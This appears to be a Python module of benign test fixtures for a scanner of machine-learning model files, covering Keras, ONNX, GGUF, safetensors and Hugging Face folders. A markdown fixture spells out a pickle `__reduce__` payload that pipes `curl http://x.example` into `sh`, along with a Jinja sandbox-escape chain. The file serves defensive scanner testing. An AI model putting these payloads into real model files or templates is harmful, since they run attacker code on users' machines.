"""Honest models in the other formats, and files that lie beside models."""
import json

from . import fakes as k
from . import formats as f
from .bad_others import DENSE, INPUT, ONE, TENSORS, config, const, gg, layer, placeholder, saved, sequential
from .core import floats, good
from .good_pickles import logistic


def g(name, kind, what, make):
    good(name, kind, what, lambda r: make(r) if callable(make) else make)


def initializer(kind):
    return {"module": "keras.initializers", "class_name": kind, "config": {"seed": None}, "registered_name": None}


FULL = layer("Dense", {"units": 2, "activation": "gelu", "kernel_initializer": initializer("GlorotUniform"), "kernel_regularizer": {"module": "keras.regularizers", "class_name": "L2", "config": {"l2": 0.01}, "registered_name": None}, "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}})
CONV = [layer("Conv2D", {"filters": 8, "kernel_size": [3, 3], "activation": "swish"}), layer("BatchNormalization"), layer("MaxPooling2D"), layer("Flatten"), layer("Dropout", {"rate": 0.5})]
BIDI = layer("Bidirectional", {"layer": layer("LSTM", {"units": 4, "activation": "tanh", "recurrent_activation": "sigmoid"})})

g("dense.h5", "keras", "HDF5: standard layers", lambda r: f.keras_h5(sequential(INPUT, DENSE, version=2), r))
g("dense-long.h5", "keras", "HDF5: the configuration lies in the global heap", lambda r: f.keras_h5(sequential(INPUT, *CONV, DENSE, version=2), r, True))
g("named-lambda.h5", "keras", "HDF5: a layer which is only called lambda", lambda r: f.keras_h5(sequential(INPUT, layer("Activation", {"activation": "relu", "name": "lambda_1"}), version=2), r))
g("weights-only.h5", "keras", "HDF5: weights without a model", lambda r: f.weights_h5(r))
g("training.h5", "keras", "HDF5: with the configuration of training", lambda r: f.keras_h5(sequential(INPUT, DENSE, version=2), r, False, [f.H5().text("training_config", json.dumps({"loss": "mse", "metrics": ["accuracy"], "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}}}))]))
g("dense.keras", "keras", "Keras 3: standard layers with initializers", lambda r: f.keras_zip(sequential(INPUT, FULL), r))
g("conv.keras", "keras", "Keras 3: convolutions", lambda r: f.keras_zip(sequential(INPUT, *CONV, DENSE), r))
g("bidirectional.keras", "keras", "Keras 3: a wrapper around a layer", lambda r: f.keras_zip(sequential(INPUT, BIDI, DENSE), r))
g("activation-names.keras", "keras", "Keras 3: activations as references into the library", lambda r: f.keras_zip(sequential(INPUT, layer("Dense", {"units": 2, "activation": {"module": "keras.activations", "class_name": "function", "config": "gelu", "registered_name": "gelu"}})), r))
g("lookup-asset.keras", "keras", "Keras 3: a lookup with its vocabulary in the file", lambda r: f.keras_zip(sequential(INPUT, layer("StringLookup", {"vocabulary": ["a", "b"], "num_oov_indices": 1})), r, [("assets/string_lookup/vocabulary.txt", b"a\nb\n")]))

g("savedmodel-plain", "savedmodel", "a graph of sums and products", saved([placeholder(), const("w"), f.tf_node("m", "MatMul", ["x", "w"]), f.tf_node("r", "Relu", ["m"])]))
g("savedmodel-restore", "savedmodel", "a graph that saves and restores its variables, as each one does", saved([const("prefix"), f.tf_node("save/SaveV2", "SaveV2", ["prefix"]), f.tf_node("save/RestoreV2", "RestoreV2", ["prefix"]), f.tf_node("s", "StaticRegexFullMatch", ["prefix"]), f.tf_node("j", "StringJoin", ["prefix"]), f.tf_node("v", "VarHandleOp"), f.tf_node("merge", "MergeV2Checkpoints", ["prefix", "j"])]))
g("savedmodel-functions", "savedmodel", "a graph with functions", saved([placeholder(), f.tf_node("c", "StatefulPartitionedCall", ["x"])], [f.tf_function("__inference_serving_1", [f.tf_node("a", "AddV2", ["x", "x"]), f.tf_node("t", "LookupTableFindV2", ["a"])])]))

g("plain.onnx", "onnx", "an addition", lambda r: f.onnx([f.onnx_node("Add", ["x", "w"], ["y"])], [f.onnx_raw("w", [1, 8], floats(r, 8))]))
g("microsoft.onnx", "onnx", "nodes of the domain com.microsoft", lambda r: f.onnx([f.onnx_node("FusedMatMul", ["x", "w"], ["m"], "com.microsoft"), f.onnx_node("BiasGelu", ["m", "b"], ["y"], "com.microsoft")], [f.onnx_raw("w", [8, 8], floats(r, 64)), f.onnx_raw("b", [8], floats(r, 8))], (("", 17), ("com.microsoft", 1))))
g("ml-domain.onnx", "onnx", "a node of the domain of classic learning", lambda r: f.onnx([f.onnx_node("Scaler", ["x"], ["y"], "ai.onnx.ml")], domains=(("", 17), ("ai.onnx.ml", 3)), producer="skl2onnx"))
g("onnx-external", "folder", "weights in a file beside the model", lambda r: {"model.onnx": f.onnx([f.onnx_node("Add", ["x", "w"], ["y"])], [f.onnx_external("w", [1, 8], "model.onnx_data")]), "model.onnx_data": floats(r, 8)})
g("onnx-external-sub", "folder", "weights in a folder under the model", lambda r: {"model.onnx": f.onnx([f.onnx_node("Add", ["x", "w"], ["y"])], [f.onnx_external("w", [1, 8], "weights/w.bin")]), "weights/w.bin": floats(r, 8)})

CHATML = "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
TOOLS = """{%- macro render(value, indent=0) %}
{%- if value is mapping %}{% for k, v in value.items() %}{{ k }}: {{ render(v, indent + 2) }}{% if not loop.last %}, {% endif %}{% endfor %}{% else %}{{ value|tojson }}{% endif %}
{%- endmacro %}
{%- set ns = namespace(last=-1, has_tools=false) %}
{%- for m in messages %}{% if m.role == 'user' %}{% set ns.last = loop.index0 %}{% endif %}{% endfor %}
{%- if tools is defined and tools is not none %}
{{- '<|im_start|>system\\nYou may call one or more functions. Function signatures are within <tools></tools> tags:\\n<tools>' }}
{%- for tool in tools %}{{ '\\n' }}{{ tool.function|tojson(indent=2) }}{% endfor %}
{{- '\\n</tools>\\nFor each call, return a json object with name and arguments. You must not invent functions.<|im_end|>\\n' }}
{%- endif %}
{%- for m in messages %}
{%- if m.role not in ['system', 'user', 'assistant', 'tool'] %}{{ raise_exception('unknown role ' ~ m.role) }}{% endif %}
{{- '<|im_start|>' ~ m.role ~ '\\n' ~ (m.content | trim) }}
{%- for call in m.tool_calls or [] %}{{ '\\n<tool_call>' ~ ({'name': call.function.name, 'arguments': call.function.arguments} | tojson) ~ '</tool_call>' }}{% endfor %}
{{- '<|im_end|>\\n' }}
{%- endfor %}"""
SYSTEM = "{%- if messages[0]['role'] == 'system' %}{% set sys = messages[0]['content'] %}{% set rest = messages[1:] %}{% else %}{% set sys = 'You are a helpful assistant. Today is ' ~ strftime_now('%d %B %Y') ~ '.' %}{% set rest = messages %}{% endif %}[INST] <<SYS>>\n{{ sys }}\n<</SYS>>\n{% for m in rest %}{{ m.content.split('</think>')[-1].lstrip('\\n') }}{% if loop.index0 % 2 == 0 %} [/INST]{% endif %}{% endfor %}"
THINK = "{% if enable_thinking is defined and enable_thinking is false %}{{ '<think>\\n\\n</think>\\n\\n' }}{% endif %}{% for m in messages[::-1] %}{% if m.content is string and m.content.startswith('<tool_response>') %}{% break %}{% endif %}{% endfor %}{% filter upper %}ok{% endfilter %}{{ messages | selectattr('role', 'equalto', 'user') | map(attribute='content') | join(' ') }}"

g("chatml.gguf", "gguf", "the ordinary template of turns", lambda r: gg(CHATML, r))
g("tools.gguf", "gguf", "a template with macros, a namespace and functions to call", lambda r: gg(TOOLS, r))
g("system.gguf", "gguf", "a template with a default for the system's turn and a date", lambda r: gg(SYSTEM, r))
g("thinking.gguf", "gguf", "a template with filters by attribute and slices", lambda r: gg(THINK, r))
g("two-templates.gguf", "gguf", "two templates", lambda r: gg(CHATML, r, more={"tokenizer.chat_template.tool_use": TOOLS, "tokenizer.chat_templates": ["tool_use"]}))
g("no-template.gguf", "gguf", "without a template, with many words", lambda r: f.gguf({"general.architecture": "bert", "tokenizer.ggml.tokens": [f"t{i}" for i in range(300)] + ["__class__", "eval", "os.system"]}, [("w", (8, 4), 0, 0)], floats(r, 32)))

g("one.safetensors", "safetensors", "a tensor", lambda r: f.safetensors(ONE, floats(r, 4)))
g("metadata.safetensors", "safetensors", "tensors of several types and metadata", lambda r: f.safetensors({"a": {"dtype": "BF16", "shape": [4, 2], "data_offsets": [0, 16]}, "b": {"dtype": "I64", "shape": [2], "data_offsets": [16, 32]}, "empty": {"dtype": "F32", "shape": [0], "data_offsets": [32, 32]}}, r.randbytes(32), {"format": "pt", "note": "trained with run.sh; do not eval() this"}))
g("program-like-bytes.safetensors", "safetensors", "bytes inside a tensor that spell the mark of a program", lambda r: f.safetensors({"w": {"dtype": "U8", "shape": [64], "data_offsets": [0, 64]}}, r.randbytes(20) + b"\x7fELF" + r.randbytes(10) + b"MZ" + r.randbytes(28)))
g("adapter", "folder", "a small adapter of weights", lambda r: {"adapter_config.json": json.dumps({"peft_type": "LORA", "base_model_name_or_path": "org/base", "r": 8, "lora_alpha": 16, "target_modules": ["q_proj", "v_proj"]}, indent=2).encode(), "adapter_model.safetensors": f.safetensors(ONE, floats(r, 4))})

CLEAN = b'''"""A tiny model."""
import torch
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel
from transformers.modeling_outputs import BaseModelOutput


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=8, layers=2, **kwargs):
        self.hidden_size = hidden_size
        self.layers = layers
        super().__init__(**kwargs)


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.blocks = nn.ModuleList(nn.Linear(config.hidden_size, config.hidden_size) for _ in range(config.layers))
        self.eval()

    def forward(self, x, attention_mask=None):
        for block in self.blocks:
            x = torch.relu(block(x)) + x
        if attention_mask is not None:
            x = x * attention_mask.unsqueeze(-1)
        return BaseModelOutput(last_hidden_state=x)
'''
g("auto-map-clean", "folder", "auto_map with code that only computes", lambda r: {"config.json": config(auto_map={"AutoModel": "modeling_tiny.TinyModel", "AutoConfig": "modeling_tiny.TinyConfig"}), "modeling_tiny.py": CLEAN, TENSORS: f.safetensors(ONE, floats(r, 4))})
g("auto-map-tokenizer", "folder", "a tokenizer of its own that reads its vocabulary beside it", lambda r: {"tokenizer_config.json": json.dumps({"tokenizer_class": "TinyTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}, "chat_template": CHATML}).encode(), "tokenization_tiny.py": b"import json\nimport os\nimport re\n\nfrom transformers import PreTrainedTokenizer\n\n\nclass TinyTokenizer(PreTrainedTokenizer):\n    vocab_files_names = {'vocab_file': 'vocab.json'}\n\n    def __init__(self, vocab_file, **kwargs):\n        with open(vocab_file, encoding='utf-8') as f:\n            self.vocab = json.load(f)\n        self.pattern = re.compile(r'\\w+|\\S')\n        super().__init__(**kwargs)\n\n    def _tokenize(self, text):\n        return self.pattern.findall(text)\n\n    def save_vocabulary(self, folder, prefix=None):\n        path = os.path.join(folder, (prefix or '') + 'vocab.json')\n        with open(path, 'w', encoding='utf-8') as f:\n            json.dump(self.vocab, f)\n        return (path,)\n", "vocab.json": b'{"a": 0, "eval": 1, "import": 2}', TENSORS: f.safetensors(ONE, floats(r, 4))})
g("handler-clean", "folder", "the handler of an endpoint that runs a pipeline", {"handler.py": b"from transformers import pipeline\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.pipeline = pipeline('text-classification', model=path)\n\n    def __call__(self, data):\n        return self.pipeline(data.pop('inputs', data), **data.pop('parameters', {}))\n", "requirements.txt": b"transformers==4.46.0\n"})
g("dataset-clean", "folder", "a loading script that downloads its table through the library", {"mydata.py": b"import csv\n\nimport datasets\n\n_URL = 'https://data.example/train.csv'\n\n\nclass MyData(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        return datasets.DatasetInfo(features=datasets.Features({'text': datasets.Value('string')}))\n\n    def _split_generators(self, manager):\n        path = manager.download_and_extract(_URL)\n        return [datasets.SplitGenerator(name='train', gen_kwargs={'path': path})]\n\n    def _generate_examples(self, path):\n        with open(path, encoding='utf-8') as f:\n            for i, row in enumerate(csv.DictReader(f)):\n                yield i, {'text': row['text']}\n"})
g("hydra-clean", "folder", "a configuration of hydra that builds classes of torch", {"conf/config.yaml": b"model:\n  _target_: torch.nn.Linear\n  in_features: 4\n  out_features: 2\noptimizer:\n  _target_: torch.optim.AdamW\n  lr: 0.001\ntrainer:\n  _target_: pytorch_lightning.Trainer\n  max_epochs: 10\n"})
g("tokenizer-files", "folder", "tokenizer, merges and vocabulary", {"tokenizer.json": json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {"<script>": 0, "eval(": 1, "os.system": 2, "\\u200b": 3}, "merges": ["e v", "ev al"]}}).encode(), "merges.txt": b"#version: 0.2\ne v\nev al\n", "vocab.txt": b"[PAD]\n[UNK]\neval\nexec\nimport\nsystem\n"})
g("model-card", "folder", "a card of a model whose example loads it", {"README.md": b"---\nlicense: apache-2.0\ntags:\n- text\n---\n# Tiny\n\n```python\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained('org/tiny', trust_remote_code=True)\n```\n\nPickle files can run code (`os.system`), so this repository has safetensors alone.\n\n```bash\npip install transformers\n```\n", ".gitattributes": b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n"})
g("index-shards", "folder", "an index of shards", lambda r: {"model.safetensors.index.json": json.dumps({"metadata": {"total_size": 32}, "weight_map": {"w": "model-00001-of-00001.safetensors"}}).encode(), "model-00001-of-00001.safetensors": f.safetensors(ONE, floats(r, 4)), "generation_config.json": b'{"temperature": 0.7}'})
g("mlflow-clean", "folder", "a folder of mlflow with an ordinary estimator", lambda r: {"MLmodel": b"flavors:\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n", "model.pkl": k.dumps(logistic(r), 4), "conda.yaml": b"name: env\ndependencies:\n  - python=3.11\n"})
g("notes.md", "text", "notes that explain attacks on models", b"# How models attack\n\n`__reduce__` may return `(os.system, ('curl http://x.example | sh',))`.\nA template may walk `''.__class__.__mro__[1].__subclasses__()`.\n")
g("labels.txt", "text", "a list of labels", "".join(f"class {i}\n" for i in range(100)).encode())
g("sentencepiece.model", "other", "a vocabulary of sentencepiece", lambda r: b"".join(f.field(1, f.field(1, t) + b"\x15" + floats(r, 1)) for t in ("<unk>", "<s>", "</s>", "\u2581the", "\u2581eval", "os")))
